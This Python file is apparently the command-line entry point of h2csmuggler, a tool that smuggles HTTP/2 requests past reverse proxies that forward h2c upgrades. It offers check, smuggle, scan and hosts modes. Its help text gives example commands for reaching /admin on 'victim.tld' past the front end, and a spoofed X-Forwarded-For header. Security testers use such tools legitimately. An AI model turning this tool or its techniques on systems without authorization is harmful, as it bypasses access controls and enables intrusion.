"""
Console script entry point for h2csmuggler.

This module is registered in ``setup.py`` under ``console_scripts``. When
installed via pip, an ``h2csmuggler`` command will be available on the
user's PATH. Subcommands:

* ``check``   - upgrade each target on its own connection and request it;
* ``smuggle`` - upgrade against a base, then request other targets over the
  same connection;
* ``scan``    - ``smuggle`` for many targets with a pool of connections,
  optionally diffed against direct requests;
* ``hosts``   - ``check`` for many targets in parallel, optionally diffed;
* ``mutate append`` - print base URLs cross multiplied with path prefixes.

Failed targets are logged and do not change the exit status; only usage
errors and a failed ``smuggle`` baseline exit non-zero.
"""

from __future__ import annotations

import argparse
import concurrent.futures as futures
import logging
import sys
from typing import Callable, List, Optional, Sequence

from h2csmuggler import __version__
from h2csmuggler.config import (
    DEFAULT_CONN_PER_HOST,
    DEFAULT_MAX_RETRIES,
    DEFAULT_PARALLEL_HOSTS,
    DEFAULT_TIMEOUT,
    ConnectionConfig,
    ScanConfig,
    parse_status_range,
)
from h2csmuggler.connection import open_connection
from h2csmuggler.differ import PassKind, ResponseDiffer
from h2csmuggler.direct import DirectClient
from h2csmuggler.errors import SmuggleError
from h2csmuggler.handshake import SETTINGS_HEADER, decode_settings
from h2csmuggler.inputs import load_targets
from h2csmuggler.log import configure, fields
from h2csmuggler.paths import prefix
from h2csmuggler.report import write_mismatches_csv, write_mismatches_json
from h2csmuggler.scanner import RequestMutation, Scanner, request_header

logger = logging.getLogger(__name__)


# ----------------------------------------------------------------------------
# Argument helpers
# ----------------------------------------------------------------------------

def parse_header(raw: str) -> RequestMutation:
    if ":" not in raw:
        raise argparse.ArgumentTypeError(f"header must look like 'Name: value', got {raw!r}")
    k, v = raw.split(":", 1)
    return request_header(k.strip(), v.strip())


def status_set(raw: str):
    try:
        return parse_status_range(raw)
    except ValueError as e:
        raise argparse.ArgumentTypeError(str(e)) from e


def connection_config(args: argparse.Namespace) -> ConnectionConfig:
    return ConnectionConfig(
        max_retries=args.retries,
        timeout=args.timeout,
        request_timeout=args.request_timeout,
        resolver=args.resolver,
    )


def scan_config(args: argparse.Namespace) -> ScanConfig:
    return ScanConfig(
        max_conn_per_host=getattr(args, "conns", DEFAULT_CONN_PER_HOST),
        max_parallel_hosts=getattr(args, "hosts", DEFAULT_PARALLEL_HOSTS),
        connection=connection_config(args),
        expected_status=args.expect_status,
        verbosity=args.verbose,
        delete_on_show=getattr(args, "delete_on_show", False),
    )


def build_parser() -> argparse.ArgumentParser:
    conn_opts = argparse.ArgumentParser(add_help=False)
    conn_opts.add_argument("--retries", type=int, default=DEFAULT_MAX_RETRIES,
                           help="Additional connection attempts after a failed dial or upgrade.")
    conn_opts.add_argument("--timeout", type=float, default=DEFAULT_TIMEOUT,
                           help="Deadline for dial + upgrade handshake (seconds).")
    conn_opts.add_argument("--request-timeout", type=float, default=None,
                           help="Per-request deadline once upgraded (seconds). Default waits forever.")
    conn_opts.add_argument("--resolver", help="Nameserver IP to resolve targets with (e.g. 1.1.1.1).")
    conn_opts.add_argument("-H", "--header", action="append", default=[], type=parse_header,
                           help="Add a header to every request (e.g. 'X-Forwarded-For: 127.0.0.1').")
    conn_opts.add_argument("--expect-status", type=status_set, default=None,
                           help="Statuses counted as success, e.g. '200-299,302'. Others are reported.")

    diff_opts = argparse.ArgumentParser(add_help=False)
    diff_opts.add_argument("-i", "--infile", help="File (.txt/.gz, '-' for stdin) with one target per line.")
    diff_opts.add_argument("--diff", action="store_true",
                           help="Also request every target directly and report differences.")
    diff_opts.add_argument("--http2", action="store_true",
                           help="Use HTTP/2 (ALPN) for direct https requests in --diff mode.")
    diff_opts.add_argument("--delete-on-show", action="store_true",
                           help="Forget a diff entry once it has been compared.")
    diff_opts.add_argument("--out-json", help="Write differences to a JSON file.")
    diff_opts.add_argument("--out-csv", help="Write differences to a CSV file.")

    ap = argparse.ArgumentParser(
        prog="h2csmuggler",
        description="h2csmuggler - smuggle HTTP/2 requests past front ends that forward h2c upgrades",
        formatter_class=argparse.ArgumentDefaultsHelpFormatter,
        epilog=(
            "Examples:\n"
            "  # Is the target upgradable?\n"
            "  h2csmuggler check https://victim.tld/\n\n"
            "  # Smuggle a request for /admin past the front end\n"
            "  h2csmuggler smuggle https://victim.tld/ https://victim.tld/admin\n\n"
            "  # Smuggle a wordlist and diff it against direct requests\n"
            "  h2csmuggler scan https://victim.tld/ -i paths.txt --diff --out-json diff.json\n"
        ),
    )
    ap.add_argument("-v", "--verbose", action="count", default=0,
                    help="-v shows headers and bodies, -vv traces scheduling.")
    ap.add_argument("--version", action="version", version=f"%(prog)s {__version__}")
    sub = ap.add_subparsers(dest="command", metavar="<command>")
    sub.required = True

    check = sub.add_parser("check", parents=[conn_opts], help="Check whether targets can be h2c upgraded.")
    check.add_argument("targets", nargs="+", help="Target URL(s), including scheme.")
    check.set_defaults(func=cmd_check)

    smuggle = sub.add_parser("smuggle", parents=[conn_opts],
                             help="Upgrade against <base> and request <targets> over the same connection.")
    smuggle.add_argument("base")
    smuggle.add_argument("targets", nargs="+")
    smuggle.set_defaults(func=cmd_smuggle)

    scan = sub.add_parser("scan", parents=[conn_opts, diff_opts],
                          help="Smuggle many targets through a pool of connections to <base>.")
    scan.add_argument("base")
    scan.add_argument("targets", nargs="*")
    scan.add_argument("-c", "--conns", type=int, default=DEFAULT_CONN_PER_HOST,
                      help="Connections kept open to the base host.")
    scan.set_defaults(func=cmd_scan)

    hosts = sub.add_parser("hosts", parents=[conn_opts, diff_opts],
                           help="Upgrade and request each target on its own connection, in parallel.")
    hosts.add_argument("targets", nargs="*")
    hosts.add_argument("-p", "--parallel", dest="hosts", type=int, default=DEFAULT_PARALLEL_HOSTS,
                       help="Hosts requested in parallel.")
    hosts.set_defaults(func=cmd_hosts)

    mutate = sub.add_parser("mutate", help="Offline helpers that rewrite target lists.")
    mutate_sub = mutate.add_subparsers(dest="mutation", metavar="<mutation>")
    mutate_sub.required = True
    append = mutate_sub.add_parser(
        "append",
        help="Cross multiply base URLs with path prefixes.",
        description="http://base.com + foo, bar -> http://base.com/foo http://base.com/bar. "
                    "Use '-' to read bases from stdin.",
    )
    append.add_argument("domains", nargs="*")
    append.add_argument("-i", "--infile", help="Input file to read bases from.")
    append.add_argument("-p", "--prefix", action="append", default=[],
                        help="Path prefix; repeat or comma-separate to cross multiply.")
    append.set_defaults(func=cmd_mutate_append)
    return ap


# ----------------------------------------------------------------------------
# Commands
# ----------------------------------------------------------------------------

def cmd_check(args: argparse.Namespace) -> int:
    config = connection_config(args)
    scanner = Scanner(scan_config(args))
    logger.debug("offering settings %s", fields(header=SETTINGS_HEADER, settings=decode_settings(SETTINGS_HEADER)))
    for t in args.targets:
        with open_connection(t, config) as conn:
            try:
                record = conn.do(scanner.build_request(t, args.header))
            except (SmuggleError, ValueError) as e:
                logger.error("failed %s", fields(target=t, error=str(e)))
                continue
        record.log()
    return 0


def cmd_smuggle(args: argparse.Namespace) -> int:
    scanner = Scanner(scan_config(args))
    with open_connection(args.base, connection_config(args)) as conn:
        if conn.error is not None:
            logger.error("failed to create conn %s", fields(target=args.base, error=str(conn.error)))
            return 1
        try:
            conn.do(scanner.build_request(args.base, args.header)).log()
        except (SmuggleError, ValueError) as e:
            logger.error("initial probe failed %s", fields(target=args.base, error=str(e)))
            return 1
        for t in args.targets:
            try:
                record = conn.do(scanner.build_request(t, args.header))
            except (SmuggleError, ValueError) as e:
                logger.error("failed %s", fields(target=t, error=str(e)))
                continue
            record.log()
    return 0


def _scan(args: argparse.Namespace, targets: List[str],
          h2c_pass: Callable[[Scanner, Sequence[str], Sequence[RequestMutation], Optional[Callable]], list]) -> int:
    if not targets:
        logger.error("no targets provided and no infile specified")
        return 1
    direct = DirectClient(http2=args.http2, timeout=args.request_timeout or 12.0)
    scanner = Scanner(scan_config(args), direct=direct)
    try:
        if not args.diff:
            h2c_pass(scanner, targets, args.header, None)
            return 0

        differ = ResponseDiffer(delete_on_show=args.delete_on_show)
        with futures.ThreadPoolExecutor(max_workers=2) as pool:
            smuggled = pool.submit(h2c_pass, scanner, targets, args.header,
                                   lambda r: differ.record(PassKind.H2C, r))
            normal = pool.submit(scanner.get_direct, targets, args.header,
                                 lambda r: differ.record(PassKind.NORMAL, r))
            smuggled.result()
            normal.result()
    finally:
        direct.close()

    logger.info("scan complete %s", fields(targets=len(targets), differences=len(differ.mismatches)))
    if args.out_json:
        write_mismatches_json(args.out_json, differ.mismatches)
        logger.info("wrote json %s", fields(path=args.out_json))
    if args.out_csv:
        write_mismatches_csv(args.out_csv, differ.mismatches)
        logger.info("wrote csv %s", fields(path=args.out_csv))
    return 0


def cmd_scan(args: argparse.Namespace) -> int:
    def h2c_pass(scanner, targets, mutations, on_result):
        return scanner.get_paths_on_host(args.base, targets, mutations, on_result)
    return _scan(args, load_targets(args.targets, args.infile), h2c_pass)


def cmd_hosts(args: argparse.Namespace) -> int:
    def h2c_pass(scanner, targets, mutations, on_result):
        return scanner.get_parallel_hosts(targets, mutations, on_result)
    return _scan(args, load_targets(args.targets, args.infile), h2c_pass)


def cmd_mutate_append(args: argparse.Namespace) -> int:
    domains = load_targets(args.domains, args.infile)
    if not domains:
        logger.error("no infile specified and no targets provided")
        return 1
    prefixes = [p for raw in args.prefix for p in raw.split(",") if p]
    for line in domains + prefix(domains, prefixes):
        print(line)
    return 0


def program_main(argv: Optional[List[str]] = None) -> int:
    """Parse ``argv`` (default ``sys.argv[1:]``), run the command, return the exit status."""
    ap = build_parser()
    args = ap.parse_args(argv)
    configure(args.verbose)
    try:
        return args.func(args)
    except ValueError as e:
        ap.error(str(e))
    return 2


def main(argv: Optional[List[str]] = None) -> None:
    """Entrypoint for the ``h2csmuggler`` console script."""
    sys.exit(program_main(argv))


if __name__ == "__main__":  # pragma: no cover
    main()
